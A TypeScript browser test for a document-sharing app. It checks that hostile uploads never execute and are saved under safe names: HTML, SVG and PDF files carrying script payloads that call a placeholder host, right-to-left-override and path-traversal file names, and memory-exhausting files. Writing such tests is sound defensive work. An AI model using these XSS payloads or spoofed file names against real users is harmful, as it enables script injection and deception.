// Files that mean harm: pages, pictures and PDFs with programs in them, under names that lie. What can be shown is shown
// as what it is, and nothing of it is run; all else is only saved, under a name that is safe anywhere. And files that fill
// the memory: of those a part is shown, or nothing, and it is said.

import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";

import type { Page } from "playwright-core";

import { SYSTEM_CLOCK } from "../../src/client/clock.ts";
import { MemoryScratches } from "../../src/client/home.ts";
import { contribute, retentionOr, type NewFile } from "../../src/client/verbs/contribute.ts";
import { caseNumber } from "../../src/protocol/id.ts";
import { Browser } from "../support/chromium.ts";
import { Demo } from "../support/demo.ts";
import { at, settled, shownIn, visit } from "../support/person.ts";
import { blank } from "../support/png.ts";

const NUMBER = caseNumber("ZVH-2026-0001");
/** What each of them tries, if anybody runs it: to change the page's name, and to tell somebody. */
const EVIL = "try{top.document.title='ran'}catch{};document.title='ran';alert('ran');fetch('https://elders.example/?ran')";

/** A PDF of one page, with a program that runs when it is opened, one on the page, and a form that is sent. */
function pdf(): string {
  return pdfOf([
    "<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/Names<</JavaScript<</Names[(a)5 0 R]>>>>/AcroForm<</Fields[7 0 R]>>>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Annots[6 0 R 7 0 R]/AA<</O 5 0 R>>" +
      "/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>",
    "<</Length 40>>stream\nBT /F 18 Tf 20 100 Td (onschuldig) Tj ET\nendstream",
    `<</S/JavaScript/JS(${EVIL.replace(/[()\\]/g, "\\$&")})>>`,
    "<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(javascript:document.title='ran')>>>>",
    "<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[10 10 90 40]/A<</S/SubmitForm/F(https://elders.example/?ran)>>/AA<</E 5 0 R>>>>",
  ]);
}

/** A PDF of so many empty pages of this size, in points. */
function pages(count: number, side: number): string {
  const numbers = Array.from({ length: count }, (_, at) => `${at + 3} 0 R`);
  const page = `<</Type/Page/Parent 2 0 R/MediaBox[0 0 ${side} ${side}]>>`;
  const tree = `<</Type/Pages/Kids[${numbers.join(" ")}]/Count ${count}>>`;
  return pdfOf(["<</Type/Catalog/Pages 2 0 R>>", tree, ...numbers.map(() => page)]);
}

function pdfOf(objects: readonly string[]): string {
  let text = "%PDF-1.7\n";
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj${object}endobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  const beginning = text.length;
  return `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${beginning}\n%%EOF`;
}

interface Hostile {
  readonly title: string;
  /** As its supplier wants it to be called, and to be taken for. */
  readonly fileName: string;
  readonly type: string;
  readonly content: string | Buffer<ArrayBuffer>;
  /** As what it is shown, by what is in the frame; nothing where it is only saved. */
  readonly shown: string | undefined;
  /** What is said of it; without it, where it is not shown, that its kind is not. */
  readonly told?: string;
  readonly savedAs: string;
}

const PAGE = `<!doctype html><title>ran</title><h1>pagina</h1><img src=x onerror="${EVIL}"><script>${EVIL}</script>`;
const DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" onload="${EVIL}"><script>${EVIL}</script><text y="20">tekening</text></svg>`;
const ALL: readonly Hostile[] = [
  { title: "Pagina", fileName: "../../map/pagina.html", type: "text/html", content: PAGE, shown: "pre", savedAs: "pagina.html" },
  { title: "Tekening", fileName: "..\\..\\tekening.svg", type: "image/svg+xml", content: DRAWING, shown: undefined, savedAs: "tekening.svg" },
  { title: "Pagina als foto", fileName: "foto.png", type: "image/png", content: PAGE, shown: undefined, savedAs: "foto.png" },
  { title: "Tekening als foto", fileName: "foto\u202egnp.svg", type: "image/jpeg", content: DRAWING, shown: undefined, savedAs: "fotognp.svg" },
  { title: "Dossier", fileName: "dossier\u202efdp.exe", type: "application/pdf", content: pdf(), shown: ".sheet canvas", savedAs: "dossierfdp.exe" },
  { title: "Pagina als dossier", fileName: "factuur.pdf.html", type: "application/pdf", content: PAGE, shown: undefined, savedAs: "factuur.pdf.html" },
  { title: "XHTML", fileName: ".htaccess", type: "application/xhtml+xml", content: PAGE, shown: undefined, savedAs: "htaccess" },
  { title: "Programma", fileName: "CON.js", type: "text/javascript", content: EVIL, shown: "pre", savedAs: "_CON.js" },
  {
    title: "Dossier zonder eind",
    fileName: "eind.pdf",
    type: "application/pdf",
    content: pages(1000, 60),
    shown: ".sheet canvas",
    told: "Dit stuk heeft 1000 bladzijden. U ziet hier de eerste 200.",
    savedAs: "eind.pdf",
  },
  {
    title: "Kaart van een provincie",
    fileName: "kaart.pdf",
    type: "application/pdf",
    content: pages(1, 1_000_000),
    shown: undefined,
    told: "is te groot om hier te tonen",
    savedAs: "kaart.pdf",
  },
  {
    title: "Foto van niets",
    fileName: "niets.png",
    type: "image/png",
    content: Buffer.from(blank(12_000, 12_000)),
    shown: undefined,
    told: "is te groot om hier te tonen",
    savedAs: "niets.png",
  },
];

describe("files that mean harm", () => {
  let demo: Demo;
  let browser: Browser;
  let page: Page;
  const ran: string[] = [];

  before(async () => {
    demo = await Demo.begin();
    const femke = await demo.person("femke");
    const files = ALL.map(({ title, fileName, type, content }): NewFile => ({
      file: new Blob([content], { type }),
      fileName,
      title,
      terms: {
        kind: "contribution",
        director: "reads",
        approval: "ask",
        phases: ["rto"],
        from: undefined,
        until: undefined,
        withheld: "silent",
        retention: retentionOr(undefined, SYSTEM_CLOCK.now()),
      },
      about: { regime: "avg", legalGround: "artikel 7", allowedUse: "Voor dit overleg.", onward: "no", cites: [] },
    }));
    await (await contribute(femke, NUMBER, files, { outgoing: new MemoryScratches() })).send();
    browser = await Browser.open();
    page = await browser.tab();
    page.on("dialog", (dialog) => {
      ran.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    browser.context.on("page", (other) => ran.push(`opened: ${other.url()}`));
    await visit(page, demo.url, "Joris");
  });
  after(async () => {
    await browser?.close();
    await demo?.end();
  });

  for (const { title, shown, told, savedAs, content } of ALL) {
    test(`${title}, to be saved as ${savedAs}`, async () => {
      await at(page, `casus/${NUMBER}`);
      await page.getByRole("link", { name: title, exact: true }).click();
      const save = page.getByRole("button", { name: "Opslaan", exact: true });
      await save.waitFor();
      await settled(page);
      const main = page.locator("main");
      if (shown === undefined) {
        await main.getByText(told ?? "tonen wij niet in de browser").waitFor();
        assert.equal(await page.locator("iframe.content").count(), 0);
      } else {
        const frame = shownIn(page);
        await frame.locator(shown).first().waitFor();
        // What ends where the screen does is not printed as if it were all.
        const print = page.getByRole("button", { name: "Afdrukken" });
        if (told === undefined) await print.waitFor();
        else {
          await main.getByText(told).waitFor();
          assert.deepEqual([await frame.locator(shown).count(), await print.count()], [200, 0]);
        }
        if (shown === "pre") assert.equal(await frame.locator("pre").textContent(), content);
        assert.equal(await frame.locator("script:not([src]), svg, a, form, input, button").count(), 0);
        // Whoever presses where a link or a button of the file is finds nothing.
        await frame.locator("#content").click();
      }
      assert.match(await main.innerText(), new RegExp(`Bestand\\s+${savedAs.replaceAll(".", "\\.")}, `));
      const [download] = await Promise.all([
        page.waitForEvent("download"),
        page.evaluate(() => Object.assign(globalThis, { showSaveFilePicker: undefined })).then(() => save.click()),
      ]);
      assert.equal(download.suggestedFilename(), savedAs);
      assert.notEqual(await page.title(), "ran");
      assert.deepEqual(ran, []);
    });
  }
});
